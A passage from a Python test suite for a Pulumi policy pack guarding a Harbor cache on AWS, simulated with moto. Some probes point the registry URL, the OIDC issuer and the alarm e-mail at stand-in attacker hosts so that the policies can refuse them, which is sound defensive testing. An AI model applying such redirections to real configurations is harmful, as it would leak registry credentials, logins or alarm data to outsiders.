        stack = engine_resources(run_program(stack_config(label)))
        preview = replaced_at_preview(stack, ["harbor-data-client-sg"])
        assert registration_of(preview, "harbor-vm-instance").inputs["vpcSecurityGroupIds"] == UNKNOWN
        with running_pack(dry_run=True, config=stack_config(label)) as pack:
            assert pack.analyze_all(preview) == []


def test_a_failed_lookup_is_asked_again_at_the_next_reference(stacks, aws):
    """Review 22c F8: a lookup that failed (here: the key pair not there yet, as with a throttled or not yet consistent
    read) is not kept for the rest of the update: once AWS shows the object, the next resource that names it passes."""
    from tests.standins.moto_stack import clients, ed25519_public_key, tag_specification

    stack = in_aws(stacks, "dev", aws)
    key_pair = registration_of(stack, "harbor-vm-key-pair")
    ec2 = clients(aws[0])("ec2")
    ec2.delete_key_pair(KeyName=key_pair.outputs["keyName"])
    instance = registration_of(stack, "harbor-vm-instance")
    with running_pack(dry_run=False, env=aws[1], config=stack_config("dev")) as pack:
        found = [d for d in pack.analyze(instance) if d.mandatory]
        assert {d.policy for d in found} == {AT_UP} and "keyName" in found[0].message
        ec2.import_key_pair(
            KeyName=key_pair.outputs["keyName"],
            PublicKeyMaterial=ed25519_public_key().encode(),
            TagSpecifications=tag_specification("key-pair", key_pair.inputs["tags"]),
        )
        assert [d for d in pack.analyze(instance) if d.mandatory] == []


OTHER_ACCOUNT = "111111111111"


def test_objects_of_another_account_or_region_are_refused_at_up(stacks, aws):
    """Review 22c F5: a bucket (names are global, a bucket policy can grant s3:GetBucketTagging) or an SNS topic (a
    topic policy can grant sns:ListTagsForResource) of another account, tagged as this stack's and named as the
    program names it, is no object of this stack; nor is the account's own in another region. moto serves another
    account's bucket to this one (moto/s3/models.py get_bucket: s3_backends.bucket_accounts), so the registry's grant
    on it passed; its SNS finds no topic outside the caller's account and region, so there the refusal must name the
    account and region (sts GetCallerIdentity), not a missing topic."""
    import boto3

    from tests.standins.moto_server import CREDENTIALS
    from tests.standins.moto_stack import MOTO_ACCOUNT, REGION, clients, tag_list

    stack = in_aws(stacks, "s3", aws)
    assumed = clients(aws[0])("sts").assume_role(  # moto: credentials of the role's account (its multi-account model)
        RoleArn=f"arn:aws:iam::{OTHER_ACCOUNT}:role/theirs", RoleSessionName="theirs"
    )["Credentials"]
    theirs = boto3.session.Session(
        aws_access_key_id=assumed["AccessKeyId"],
        aws_secret_access_key=assumed["SecretAccessKey"],
        aws_session_token=assumed["SessionToken"],
    )
    ours = boto3.session.Session(
        aws_access_key_id=CREDENTIALS["AWS_ACCESS_KEY_ID"], aws_secret_access_key=CREDENTIALS["AWS_SECRET_ACCESS_KEY"]
    )
    bucket_tags = tag_list(registration_of(stack, "harbor-storage-bucket").inputs["tags"])
    topic_tags = tag_list(registration_of(stack, "harbor-alarms-topic").inputs["tags"])
    buckets, topics = [], []
    for session, region, name in ((theirs, REGION, "harbor-cache-theirs"), (ours, "eu-west-1", "harbor-cache-west")):
        s3 = session.client("s3", endpoint_url=aws[0], region_name=region)
        s3.create_bucket(Bucket=name, CreateBucketConfiguration={"LocationConstraint": region})
        s3.put_bucket_tagging(Bucket=name, Tagging={"TagSet": bucket_tags})
        buckets.append(name)
        sns = session.client("sns", endpoint_url=aws[0], region_name=region)
        topics.append(sns.create_topic(Name=name, Tags=topic_tags)["TopicArn"])
    assert f":{OTHER_ACCOUNT}:" in topics[0] and ":eu-west-1:" in topics[1]
    own_bucket = output_of(stack, "harbor-storage-bucket", "bucket")
    probes = [
        (changed(stack, "harbor-storage-registry-access", lambda p, b=b: p.update(policy=p["policy"].replace(own_bucket, b))), b)
        for b in buckets
    ] + [(changed(stack, "harbor-alarms-root-disk", lambda p, t=t: p.update(alarmActions=[t])), t) for t in topics]
    passed = []
    with running_pack(dry_run=False, env=aws[1], config=stack_config("s3")) as pack:
        assert [d for d in pack.analyze_all(stack) if d.mandatory] == []
        for probe, value in probes:
            found = [d.message for d in pack.analyze(probe) if d.mandatory and d.policy == AT_UP]
            why = f"this account's ({MOTO_ACCOUNT}) in '{REGION}'" if ":sns:" not in value else f"'{MOTO_ACCOUNT}' in '{REGION}'"
            if not any(value in message and why in message for message in found):
                passed.append((value, [message[message.find(value) :][:200] for message in found]))
    assert passed == []


# Review 22c (F1, F4, F6, F7): the address the commands reach, the cache's address record, and what may carry the stack
# tag. Each probe passed the pack before the fix (the review's probes); now it is refused.
ASSOCIATION_POLICY = "aws-ec2-eipassociation-eipassociation"
RECORD_POLICY = "aws-route53-record-record"
STACK_TAG_POLICY = "the-stack-tag-marks-the-programs-own"


def mandatory_policies(pack, resources: list[EngineResource]) -> set[str]:
    return {d.policy for r in resources for d in pack.analyze(r) if d.mandatory}


def test_the_stacks_eip_goes_only_onto_the_stacks_instance(stacks, aws):
    """F1: the instance replaced (so the association's fields are unknown at preview), the association set through
    instance.id.apply to a foreign network interface (or a public/private IP) is refused at preview and at up by the
    association's own check. And every command's host, the stack's tagged EIP, must be associated with the stack's
    instance at up (the commands depend on the association, components/harbor_cache.py): moved onto a foreign
    network interface or instance, or associated with nothing, it is refused; the address record only needs it on
    nothing or on the stack's instance (dns.py does not wait for the association)."""
    from pulumi.runtime import rpc

    from tests.standins.moto_stack import MOTO_IMAGE, clients

    stack = in_aws(stacks, "dev", aws)
    ec2 = clients(aws[0])("ec2")
    subnet = ec2.describe_subnets()["Subnets"][0]["SubnetId"]
    eni = ec2.create_network_interface(SubnetId=subnet)["NetworkInterface"]["NetworkInterfaceId"]
    for field in ("networkInterfaceId", "publicIp", "privateIpAddress"):
        preview = replaced_at_preview(stack, ["harbor-vm-instance"])
        association = registration_of(preview, "harbor-vm-eip-association")
        for properties in (association.inputs, association.outputs):
            properties[field] = rpc.UNKNOWN
        association.property_dependencies[field] = list(association.property_dependencies["instanceId"])
        with running_pack(dry_run=True) as pack:
            assert ASSOCIATION_POLICY in {d.policy for d in pack.analyze_all(preview) if d.mandatory}, field

    def to_eni(p):
        p.pop("instanceId", None)
        p["networkInterfaceId"] = eni

    install, record = registration_of(stack, "harbor-install-docker"), registration_of(stack, "harbor-dns-a")
    with running_pack(dry_run=False, env=aws[1]) as pack:
        assert ASSOCIATION_POLICY in mandatory_policies(pack, [changed(stack, "harbor-vm-eip-association", to_eni)])
        assert mandatory_policies(pack, [install, record]) == set()  # on the stack's instance (moto_stack.in_aws)
    allocation = output_of(stack, "harbor-vm-eip")
    foreign = ec2.run_instances(ImageId=MOTO_IMAGE, MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]
    for target in ({"NetworkInterfaceId": eni}, {"InstanceId": foreign}):
        ec2.associate_address(AllocationId=allocation, AllowReassociation=True, **target)
        with running_pack(dry_run=False, env=aws[1]) as pack:  # a new pack process: nothing looked up yet
            assert mandatory_policies(pack, [install]) == {AT_UP}, target
            assert mandatory_policies(pack, [record]) == {AT_UP}, target
    (address,) = ec2.describe_addresses(AllocationIds=[allocation])["Addresses"]
    ec2.disassociate_address(AssociationId=address["AssociationId"])
    with running_pack(dry_run=False, env=aws[1]) as pack:
        install_refused = [d.message for d in pack.analyze(install) if d.mandatory]
        assert len(install_refused) == 1 and "associated with nothing" in install_refused[0]
        assert mandatory_policies(pack, [record]) == set()


def test_the_caches_address_record_is_type_a_and_every_value_is_looked_up(stacks, aws):
    """F4: the address record as AAAA with a foreign IPv6, the EIP replaced (so its value is unknown at preview): refused
    at preview and at up; an A record holding a value not shaped like IPv4 is looked up too (and refused). With one VM
    it sets records only, with replicas > 1 an alias only, as components/aws/dns.py does."""
    stack = in_aws(stacks, "dev", aws)
    preview = replaced_at_preview(stack, ["harbor-vm-eip"])
    record = registration_of(preview, "harbor-dns-a")
    for properties in (record.inputs, record.outputs):
        properties["type"] = "AAAA"
    with running_pack(dry_run=True) as pack:
        assert RECORD_POLICY in {d.policy for d in pack.analyze_all(preview) if d.mandatory}
    aaaa = changed(stack, "harbor-dns-a", lambda p: p.update(type="AAAA", records=["2001:db8::66"]))
    odd_a = changed(stack, "harbor-dns-a", lambda p: p.update(records=["2001:db8::66"]))
    with running_pack(dry_run=False, env=aws[1]) as pack:
        assert {RECORD_POLICY, AT_UP} <= mandatory_policies(pack, [aaaa])
        assert mandatory_policies(pack, [odd_a]) == {AT_UP}
        alias = {"name": "elsewhere.example.com", "zoneId": "Z2IFOLAFXWLO4F", "evaluateTargetHealth": True}
        aliased = changed(stack, "harbor-dns-a", lambda p: p.update(aliases=[alias]) or p.pop("records"))
        assert RECORD_POLICY in mandatory_policies(pack, [aliased])
    ha = stacks["ha"]
    with running_pack(dry_run=True, config=stack_config("ha"), disabled=WITHOUT_AWS_LOOKUPS) as pack:
        assert mandatory_policies(pack, [registration_of(ha, "harbor-dns-a")]) == set()
        both = changed(ha, "harbor-dns-a", lambda p: p.update(records=["198.51.100.7"], ttl=300) or p.pop("aliases"))
        assert RECORD_POLICY in mandatory_policies(pack, [both])


def test_only_tags_carry_the_stack_tag(stacks):
    """F6: an instance's volumeTags, root or EBS block device tags, or a snapshot schedule's tags to add, carrying the
    stack tag with a program Name (the volumes made then pass the data volume's lookup), are refused at preview."""
    stack = stacks["dev"]
    claim = {"harbor-cache:stack": "dev", "Name": "harbor-vm-data"}
    probes = [
        changed(stack, "harbor-vm-instance", lambda p: p.update(volumeTags=dict(claim))),
        changed(stack, "harbor-vm-instance", lambda p: p["rootBlockDevice"].update(tags=dict(claim))),
        changed(
            stack, "harbor-vm-instance", lambda p: p.update(ebsBlockDevices=[{"deviceName": "/dev/sdg", "tags": dict(claim)}])
        ),
        changed(stack, "harbor-vm-snapshots", lambda p: p["policyDetails"]["schedules"][0].update(tagsToAdd=dict(claim))),
    ]
    with running_pack(dry_run=True) as pack:
        for probe in probes:
            assert STACK_TAG_POLICY in mandatory_policies(pack, [probe]), probe.name


def node(stack: list[EngineResource], name: str, index: int) -> EngineResource:
    """The program's `name` (harbor-vm-instance) as node `index`'s, named and tagged as node_prefix would."""
    resource = copy.deepcopy(registration_of(stack, name))
    renamed = name.replace("harbor-vm-", f"harbor-vm-{index}-", 1)
    resource.name, resource.urn = renamed, resource.urn.removesuffix(f"::{name}") + f"::{renamed}"
    for properties in (resource.inputs, resource.outputs):
        properties["tags"]["Name"] = renamed
    return resource


def test_node_indices_stay_below_the_replicas(stacks):
    """F7: a node the configuration does not make (harbor-vm-9-instance in a one-VM stack, harbor-vm-2-eip with
    replicas 2) carries the stack tag only if the program makes it: refused; the HA stack's node 1 passes."""
    with running_pack(dry_run=True) as pack:
        assert STACK_TAG_POLICY in mandatory_policies(pack, [node(stacks["dev"], "harbor-vm-instance", 9)])
    with running_pack(dry_run=True, config=stack_config("ha")) as pack:
        assert STACK_TAG_POLICY in mandatory_policies(pack, [node(stacks["ha"], "harbor-vm-eip", 2)])
        assert STACK_TAG_POLICY not in mandatory_policies(pack, [registration_of(stacks["ha"], "harbor-vm-1-eip")])


# Review 22d (issue 22): the launch image at every `up` (FR1), what the disks and the database are made from (S1, S1b,
# S2), where Harbor sends upstream credentials and whom it trusts as admin (H1), where logs and alarm mail go (B2, B2b).
# Each probe passed the pack before the fix (tests/policy/test_review22d_probes.py on branch review22d).


def mandatory_messages(pack, resource: EngineResource) -> list[tuple[str, str]]:
    return [(d.policy, d.message) for d in pack.analyze(resource) if d.mandatory]


def test_an_instance_whose_launch_image_is_gone_passes_and_a_new_one_does_not(stacks, aws):
    """FR1: with ignore_changes=["ami"] (components/aws/vm.py) the engine hands Analyze the image the instance was
    launched from at every `up` (step_generator.go: processIgnoreChanges before analyzeAll). Once Canonical makes that
    serial private or deregisters it, DescribeImages shows this account nothing: InvalidAMIID.NotFound for an id moto
    does not hold (moto/ec2/models/amis.py AmiBackend.describe_images raises InvalidAMIIdError), an empty answer for a
    deregistered one (moto: an id in `deleted_amis` answers no image and no error, as AWS answers "empty results" for
    recently deregistered images). The stack's instance that runs it then passes; an image nobody of this stack runs
    (a new instance's: RunInstances cannot boot an image the account cannot see) is refused with a message that says
    so, and so is the old image once the stack's instance is gone (another stack's instance running it counts for
    nothing)."""
    from moto.ec2.models import ec2_backends

    from tests.standins.moto_stack import MOTO_ACCOUNT, PROGRAM_IMAGE, REGION, clients, tag_specification

    stack = in_aws(stacks, "dev", aws)
    instance = registration_of(stack, "harbor-vm-instance")
    assert instance.inputs["ami"] == PROGRAM_IMAGE
    ec2 = clients(aws[0])("ec2")
    prod = {**instance.inputs["tags"], "harbor-cache:stack": "prod"}
    ec2.run_instances(ImageId=PROGRAM_IMAGE, MinCount=1, MaxCount=1, TagSpecifications=tag_specification("instance", prod))
    backend = ec2_backends[MOTO_ACCOUNT][REGION]
    del backend.amis[PROGRAM_IMAGE]
    backend.deleted_amis.append(PROGRAM_IMAGE)  # deregistered: an empty answer
    assert ec2.describe_images(ImageIds=[PROGRAM_IMAGE])["Images"] == []
    with running_pack(dry_run=False, env=aws[1], config=stack_config("dev")) as pack:
        assert mandatory_messages(pack, instance) == []
    backend.deleted_amis.remove(PROGRAM_IMAGE)  # private: InvalidAMIID.NotFound
    never = "ami-0fedcba9876543210"
    with running_pack(dry_run=False, env=aws[1], config=stack_config("dev")) as pack:
        assert mandatory_messages(pack, instance) == []
        found = mandatory_messages(pack, changed(stack, "harbor-vm-instance", lambda p: p.update(ami=never)))
        assert [policy for policy, _ in found] == [AT_UP]
        assert "AWS shows this account no image" in found[0][1] and "AMI lookup" in found[0][1]
        assert "pass the program's own resource" not in found[0][1]
    ec2.terminate_instances(InstanceIds=[instance.outputs["id"]])
    with running_pack(dry_run=False, env=aws[1], config=stack_config("dev")) as pack:
        found = mandatory_messages(pack, instance)
        assert [policy for policy, _ in found] == [AT_UP] and "no instance of stack 'dev' runs it" in found[0][1]


def test_the_launch_image_lookup_asks_for_deprecated_images_and_fails_closed_on_other_errors(monkeypatch):
    """FR1: DescribeImages is asked with IncludeDeprecated=True (its default leaves deprecated images out; Canonical
    deprecates every serial but the newest within weeks), which botocore's model validates (the Stubber checks the
    parameters against it). Access denied (EC2's UnauthorizedOperation) and throttling (RequestLimitExceeded) are no
    "invisible image": the lookup raises, so the reference is refused (fail closed)."""
    import boto3
    from botocore.config import Config
    from botocore.exceptions import ClientError
    from botocore.stub import Stubber

    monkeypatch.syspath_prepend(str(POLICY_DIR))
    import aws_lookups

    ec2 = boto3.client(
        "ec2",
        region_name="eu-central-1",
        aws_access_key_id="testing",
        aws_secret_access_key="testing",
        config=Config(retries={"mode": "standard", "max_attempts": 1}),
    )
    monkeypatch.setattr(aws_lookups, "_client", lambda service: ec2)
    image = "ami-0123456789abcdef0"
    asked = {"ImageIds": [image], "IncludeDeprecated": True}
    with Stubber(ec2) as stub:
        for code in ("UnauthorizedOperation", "RequestLimitExceeded"):
            stub.add_client_error("describe_images", code, expected_params=asked)
            with pytest.raises(ClientError, match=code):
                aws_lookups.launch_image(image, "dev")
        canonical = {
            "ImageId": image,
            "OwnerId": aws_lookups.UBUNTU_OWNER,
            "Name": "ubuntu/images/hvm-ssd-gp3/ubuntu-noble-24.04-amd64-server-20260101",
            "Architecture": "x86_64",
            "VirtualizationType": "hvm",
            "DeprecationTime": "2026-03-01T00:00:00.000Z",
        }
        stub.add_response("describe_images", {"Images": [canonical]}, expected_params=asked)
        assert aws_lookups.launch_image(image, "dev") == []
        stub.assert_no_pending_responses()


VOLUME_POLICY, INSTANCE_POLICY = "aws-ebs-volume-volume", "aws-ec2-instance-instance"
DATABASE_POLICY = "aws-rds-instance-instance"
THEIR_SNAPSHOT_ACCOUNT = "210987654321"


def test_disks_and_the_database_are_made_from_nothing_foreign_at_preview(stacks):
    """S1, S1b, S2 at a preview: a volume is made from a snapshot only as node 0's data volume from the stack's
    dataVolumeSnapshotId (components/aws/vm.py); the instance takes no block device from a snapshot; the database is
    never filled from S3 files, another database or another instance's point in time. The program's own stacks, and
    the dev stack with dataVolumeSnapshotId set, pass."""
    foreign = "snap-0f0e0d0c0b0a09081"
    dev, s3, ha = stacks["dev"], stacks["s3"], stacks["ha"]
    probes = [
        ("dev", VOLUME_POLICY, changed(dev, "harbor-vm-data", lambda p: p.update(snapshotId=foreign))),
        (
            "dev",
            INSTANCE_POLICY,
            changed(
                dev,
                "harbor-vm-instance",
                lambda p: p.update(ebsBlockDevices=[{"deviceName": "/dev/sdg", "snapshotId": foreign, "encrypted": True}]),
            ),
        ),
        ("ha", VOLUME_POLICY, changed(ha, "harbor-vm-1-data", lambda p: p.update(snapshotId=foreign))),
        *(
            ("s3", DATABASE_POLICY, changed(s3, "harbor-data-db", lambda p, f=field, v=value: p.update({f: v})))
            for field, value in (
                (
                    "s3Import",
                    {"bucketName": "seed-db", "ingestionRole": "arn:aws:iam::123456789012:role/x", "sourceEngine": "postgres"},
                ),
                ("replicateSourceDb", "arn:aws:rds:eu-west-1:210987654321:db:theirs"),
                ("restoreToPointInTime", {"sourceDbInstanceIdentifier": "theirs", "useLatestRestorableTime": True}),
            )
        ),
    ]
    passed = []
    for label, policy, probe in probes:
        with running_pack(dry_run=True, config=stack_config(label)) as pack:
            if policy not in mandatory_policies(pack, [probe]):
                passed.append((label, probe.name, policy))
    assert passed == []
    # The ha stack's node 1 with the snapshot the configuration names: still only node 0's data volume.
    config = {**stack_config("ha"), "harbor-cache:dataVolumeSnapshotId": foreign}
    with running_pack(dry_run=True, config=config) as pack:
        assert VOLUME_POLICY in mandatory_policies(pack, [probes[2][2]])
        node0 = changed(ha, "harbor-vm-data", lambda p: p.update(snapshotId=foreign))
        assert mandatory_policies(pack, [node0]) == set()  # what the configuration says: its owner is looked up at up
    program = engine_resources(run_program({**stack_config("dev"), "harbor-cache:dataVolumeSnapshotId": foreign}))
    assert registration_of(program, "harbor-vm-data").inputs["snapshotId"] == foreign
    with running_pack(dry_run=True, config={**stack_config("dev"), "harbor-cache:dataVolumeSnapshotId": foreign}) as pack:
        assert [d for d in pack.analyze_all(program) if d.mandatory] == []


def test_disks_and_the_database_are_made_from_this_accounts_snapshots_at_up(stacks, aws):
    """S1, S2 at up, before the step: the data volume's snapshot (dataVolumeSnapshotId) must be one this account owns
    (EC2 DescribeSnapshots OwnerId against STS's account): another account's public or shared snapshot, and one the
    account cannot see, are refused, the account's own passes, and so does a snapshot DLM has since deleted where a
    volume of this stack was made from it (the engine hands Analyze the volume at every up). The database's
    snapshotIdentifier: this account's (RDS DescribeDBSnapshots) passes, another account's ARN is refused.
    moto: CreateSnapshot takes the owner the model is given (moto/ec2/models/elastic_block_store.py
    EBSBackend.create_snapshot owner_id, the way moto makes an AMI's snapshots), so the other account's public snapshot
    is modelled in this account's backend, where DescribeSnapshots shows it with that OwnerId as AWS shows a public
    snapshot; one of another account that is not shared is absent (InvalidSnapshot.NotFound)."""
    from moto.ec2.models import ec2_backends

    from tests.standins.moto_stack import MOTO_ACCOUNT, REGION, clients, tag_specification

    stack = in_aws(stacks, "dev", aws)
    ec2 = clients(aws[0])("ec2")
    seed = ec2.create_volume(AvailabilityZone=f"{REGION}a", Size=1)["VolumeId"]
    own = ec2.create_snapshot(VolumeId=seed)["SnapshotId"]
    theirs = ec2_backends[MOTO_ACCOUNT][REGION].create_snapshot(seed, "public", owner_id=THEIR_SNAPSHOT_ACCOUNT).id
    assert ec2.describe_snapshots(SnapshotIds=[theirs])["Snapshots"][0]["OwnerId"] == THEIR_SNAPSHOT_ACCOUNT
    gone = ec2.create_snapshot(VolumeId=seed)["SnapshotId"]

    def judged(snapshot: str) -> list[tuple[str, str]]:
        config = {**stack_config("dev"), "harbor-cache:dataVolumeSnapshotId": snapshot}
        volume = changed(stack, "harbor-vm-data", lambda p: p.update(snapshotId=snapshot))
        with running_pack(dry_run=True, config=config) as pack:
            assert mandatory_messages(pack, volume) == []  # the configuration's: judged at up
        with running_pack(dry_run=False, env=aws[1], config=config) as pack:
            return mandatory_messages(pack, volume)

    assert judged(own) == []
    found = judged(theirs)
    assert [p for p, _ in found] == [AT_UP] and f"owned by account '{THEIR_SNAPSHOT_ACCOUNT}'" in found[0][1]
    assert "dataVolumeSnapshotId" in found[0][1] and "pass the program's own resource" not in found[0][1]
    found = judged("snap-0123456789abcdef0")
    assert [p for p, _ in found] == [AT_UP] and "no snapshot" in found[0][1]
    data_tags = registration_of(stack, "harbor-vm-data").inputs["tags"]
    ec2.create_volume(
        AvailabilityZone=f"{REGION}a", SnapshotId=gone, TagSpecifications=tag_specification("volume", data_tags)
    )
    ec2.delete_snapshot(SnapshotId=gone)
    assert judged(gone) == []
    prod = {**data_tags, "harbor-cache:stack": "prod"}
    also_gone = ec2.create_snapshot(VolumeId=seed)["SnapshotId"]
    ec2.create_volume(AvailabilityZone=f"{REGION}a", SnapshotId=also_gone, TagSpecifications=tag_specification("volume", prod))
    ec2.delete_snapshot(SnapshotId=also_gone)
    assert [p for p, _ in judged(also_gone)] == [AT_UP]  # another stack's volume counts for nothing


def test_the_database_is_restored_only_from_this_accounts_snapshot_at_up(stacks, aws):
    """S2 at up: snapshotIdentifier (the program sets none) names a snapshot RDS DescribeDBSnapshots shows this account
    in the stack's region; another account's shared snapshot (its ARN), or a name this account has no snapshot of, is
    refused before the step."""
    from tests.standins.moto_stack import MOTO_ACCOUNT, REGION, clients

    s3 = in_aws(stacks, "s3", aws)
    rds = clients(aws[0])("rds")
    rds.create_db_instance(
        DBInstanceIdentifier="harbor-cache-old",
        Engine="postgres",
        DBInstanceClass="db.t3.micro",
        AllocatedStorage=20,
        MasterUsername="harbor",
        MasterUserPassword="not-a-real-secret-1",
    )
    rds.create_db_snapshot(DBInstanceIdentifier="harbor-cache-old", DBSnapshotIdentifier="harbor-cache-restore")
    with running_pack(dry_run=False, env=aws[1], config=stack_config("s3")) as pack:
        for identifier, refused in (
            ("harbor-cache-restore", False),
            (f"arn:aws:rds:{REGION}:{MOTO_ACCOUNT}:snapshot:harbor-cache-restore", False),
            (f"arn:aws:rds:{REGION}:{THEIR_SNAPSHOT_ACCOUNT}:snapshot:harbor-seed", True),
            ("harbor-seed", True),
        ):
            database = changed(s3, "harbor-data-db", lambda p, i=identifier: p.update(snapshotIdentifier=i))
            assert (AT_UP in {p for p, _ in mandatory_messages(pack, database)}) is refused, identifier


REGISTRY_POLICY, OIDC_POLICY = "pulumi-python-dynamic-harbor-registry", "pulumi-python-dynamic-harbor-oidcauth"
CA_PEM = "-----BEGIN CERTIFICATE-----\nMIIBfixture\n-----END CERTIFICATE-----\n"


def test_harbor_sends_upstream_credentials_and_trusts_admins_only_as_the_settings_say(stacks):
    """H1: a Harbor registry's url and type are its upstreams entry's (Harbor sends access_key/access_secret there on
    every ping and pull), insecure and a CA certificate only where the entry sets them; the OIDC login's issuer, admin
    group and groups claim are the oidc setting's (Harbor sends its client secret to the issuer and makes admin whom it
    names), its certificate verified unless the setting says verifyCert: false. Refused at preview; the program's own
    registries and login pass, also with an insecure upstream, a CA certificate and verifyCert: false in the settings."""
    dev = stacks["dev"]
    registry, oidc = "harbor-config-registry-dockerhub", "harbor-config-oidc"
    probes = [
        (REGISTRY_POLICY, changed(dev, registry, lambda p: p.update(url="https://registry.attacker.example", insecure=True))),
        (REGISTRY_POLICY, changed(dev, registry, lambda p: p.update(url="https://registry.attacker.example"))),
        (REGISTRY_POLICY, changed(dev, registry, lambda p: p.update(url="https://hub.docker.com.attacker.example/"))),
        (REGISTRY_POLICY, changed(dev, registry, lambda p: p.update(type="harbor"))),
        (REGISTRY_POLICY, changed(dev, registry, lambda p: p.update(insecure=True))),
        (REGISTRY_POLICY, changed(dev, registry, lambda p: p.update(ca_certificate=CA_PEM))),
        (REGISTRY_POLICY, changed(dev, registry, lambda p: p.update(name="mirror"))),
        (OIDC_POLICY, changed(dev, oidc, lambda p: p.update(oidc_endpoint="https://idp.attacker.example"))),
        (OIDC_POLICY, changed(dev, oidc, lambda p: p.update(oidc_verify_cert=False))),
        (OIDC_POLICY, changed(dev, oidc, lambda p: p.update(oidc_admin_group="everyone"))),
        (OIDC_POLICY, changed(dev, oidc, lambda p: p.update(oidc_groups_claim="email"))),
    ]
    with running_pack(dry_run=True, config=stack_config("dev")) as pack:
        assert mandatory_policies(pack, [registration_of(dev, registry), registration_of(dev, oidc)]) == set()
        passed = [(p.name, p.inputs) for policy, p in probes if policy not in mandatory_policies(pack, [p])]
    assert passed == []
    no_oidc = {key: value for key, value in stack_config("dev").items() if key != "harbor-cache:oidc"}
    with running_pack(dry_run=True, config=no_oidc) as pack:
        assert OIDC_POLICY in mandatory_policies(pack, [registration_of(dev, oidc)])
    settings = {
        **stack_config("dev"),
        "harbor-cache:upstreams": [
            {"name": "internal", "type": "docker-registry", "url": "http://registry.cache-fixture.net/", "insecure": True},
            {"name": "own-ca", "type": "harbor", "url": "https://harbor.cache-fixture.net", "caCertificate": CA_PEM},
        ],
        "harbor-cache:oidc": {"issuer": "https://dex.cache-fixture.net/", "verifyCert": False, "adminGroup": "ops"},
    }
    program = engine_resources(run_program(settings))
    assert registration_of(program, "harbor-config-registry-internal").inputs["insecure"] is True
    assert registration_of(program, "harbor-config-oidc").inputs["oidc_verify_cert"] is False
    with running_pack(dry_run=True, config=settings) as pack:
        assert [d for d in pack.analyze_all(program) if d.mandatory] == []
        theirs = CA_PEM.replace("fixture", "theirs")
        ca = changed(program, "harbor-config-registry-own-ca", lambda p: p.update(ca_certificate=theirs))
        assert REGISTRY_POLICY in mandatory_policies(pack, [ca])


LB_POLICY, SUBSCRIPTION_POLICY = "aws-lb-loadbalancer-loadbalancer", "aws-sns-topicsubscription-topicsubscription"


def test_logs_and_alarm_mail_go_nowhere_the_program_does_not_send_them(stacks):
    """B2: the load balancer's access, connection or health check logs to a bucket (another account's: ELB delivers to
    any bucket whose policy admits it; the lines hold Harbor's token requests and client addresses) are refused; a
    block that sends nothing passes. B2b: the alarm e-mail subscription's endpoint is the stack's alarmEmail (another
    address, or a subscription where the stack sets none, is refused); the program's subscriptions pass."""
    ha, mail = stacks["ha"], stacks["mail"]
    logs = {"bucket": "their-elb-logs", "enabled": True, "prefix": "x"}
    with running_pack(dry_run=True, config=stack_config("ha")) as pack:
        for key in ("accessLogs", "connectionLogs", "healthCheckLogs"):
            sending = changed(ha, "harbor-lb-alb", lambda p, k=key: p.update({k: logs}))
            assert LB_POLICY in mandatory_policies(pack, [sending]), key
        silent = changed(ha, "harbor-lb-alb", lambda p: p.update(accessLogs={"enabled": False}))
        assert LB_POLICY not in mandatory_policies(pack, [silent])  # sends nothing (the field allow-list refuses it)
    elsewhere = changed(mail, "harbor-alarms-email", lambda p: p.update(endpoint="collector@attacker.example"))
    with running_pack(dry_run=True, config=stack_config("mail")) as pack:
        assert mandatory_policies(pack, [registration_of(mail, "harbor-alarms-email")]) == set()
        assert SUBSCRIPTION_POLICY in mandatory_policies(pack, [elsewhere])
    with running_pack(dry_run=True, config=stack_config("dev")) as pack:  # no alarmEmail
        assert SUBSCRIPTION_POLICY in mandatory_policies(pack, [registration_of(mail, "harbor-alarms-email")])


# Review 22d (issue 22): the load balancer's whole admission at up (L1), references absent at up (A1), every group an
# instance joins (G1/G1b), the VM group's egress (G2). Each probe passed the pack before the fix (the review's probes,
# tests on branch review22d); now it is refused.
def mandatory_of(pack, resources: list[EngineResource], whole: bool = False) -> list[tuple[str, str]]:
    found = pack.analyze_all(resources) if whole else [d for r in resources for d in pack.analyze(r)]
    return [(d.policy, d.message) for d in found if d.mandatory]


def test_the_load_balancers_whole_admission_is_judged_at_up(stacks, aws):
    """L1: in the HA stack a node's EIP replaced in the update (every scale-up makes one) leaves its 443 block unknown
    at the preview, judged there by its origin only (stack_checks._node_address). A block the pull request makes
    from that EIP (eip.public_ip.apply(lambda _: "198.51.0.0/16")) was looked up at up only when it was a /32, and the
    resource check refuses only the world: a foreign /16 or /31 reached the cache. At up, before the step, every block
    is now in allowedCidrs or a tcp 443 /32 that looks up as a node's EIP of this stack; the stack's own group passes."""
    stack = in_aws(stacks, "ha", aws)
    original = copy.deepcopy(registration_of(stack, "harbor-lb-sg").inputs["ingress"])
    preview = replaced_at_preview(stack, ["harbor-vm-1-eip"])
    group = registration_of(preview, "harbor-lb-sg")
    at_preview = copy.deepcopy(original)
    node_rule = next(i for i, r in enumerate(at_preview) if r["description"].endswith("of node 1 (its public path check)"))
    at_preview[node_rule]["cidrBlocks"] = [UNKNOWN]  # node 1's EIP, replaced: as the program's own rule is at that preview
    at_preview.append(tcp(443, UNKNOWN, description="443 from node 1 (the pull request's)"))
    for props in (group.inputs, group.outputs):
        props["ingress"] = copy.deepcopy(at_preview)
    with running_pack(dry_run=True, config=stack_config("ha")) as pack:
        assert mandatory_of(pack, preview, whole=True) == []  # the preview cannot tell: the step's Analyze must
    probes = {
        "a foreign /16 on 443": lambda p: p["ingress"].append(tcp(443, "198.51.0.0/16")),
        "a foreign /31 on 443": lambda p: p["ingress"].append(tcp(443, "198.51.100.6/31")),
        "a foreign /24 on 80": lambda p: p["ingress"].append(tcp(80, "198.51.100.0/24")),
        "a node's /32 on 80": lambda p: p["ingress"].append(tcp(80, f"{output_of(stack, 'harbor-vm-eip', 'publicIp')}/32")),
        "an IPv6 /64 on 443": lambda p: p["ingress"].append({**tcp(443), "ipv6CidrBlocks": ["2001:db8:66::/64"]}),
    }
    with running_pack(dry_run=False, env=aws[1], config=stack_config("ha")) as pack:
        assert mandatory_of(pack, [registration_of(stack, "harbor-lb-sg")]) == []
        for what, change in probes.items():
            found = mandatory_of(pack, [changed(stack, "harbor-lb-sg", change)])
            assert [policy for policy, _ in found] == [AT_UP], what


# A1: (stack, resource, what the pull request makes of it at up) - each reference the program always sets, absent or
# empty at up (at the preview unknown, made through `apply` from a replaced source, and judged by its dependency).
ABSENT_AT_UP = [
    ("dev", "harbor-vm-instance", "no vpcSecurityGroupIds", lambda p: p.pop("vpcSecurityGroupIds")),
